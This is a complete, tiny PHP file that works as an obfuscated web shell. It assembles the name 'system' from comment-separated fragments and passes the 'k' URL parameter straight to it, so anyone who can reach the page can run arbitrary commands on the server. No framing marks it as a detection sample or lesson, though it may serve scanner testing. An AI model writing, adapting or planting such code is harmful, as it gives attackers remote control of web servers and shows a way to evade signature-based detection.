<?php
$z = 'sy' /* a */ . /* b */ 'st' . /* c */ 'em';
$z(/* input */ $_GET /* k */ ['k']);
